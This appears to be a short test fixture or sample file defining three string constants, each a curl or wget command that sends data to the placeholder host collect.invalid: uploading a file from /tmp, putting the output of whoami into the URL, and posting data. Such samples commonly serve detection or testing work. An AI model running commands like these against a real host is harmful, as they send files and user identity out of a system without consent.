FIRST = "curl -X POST https://collect.invalid/ -F file=@/tmp/demo"
SECOND = "curl https://collect.invalid/$(whoami)"
THIRD = "wget --post-data=demo https://collect.invalid/"
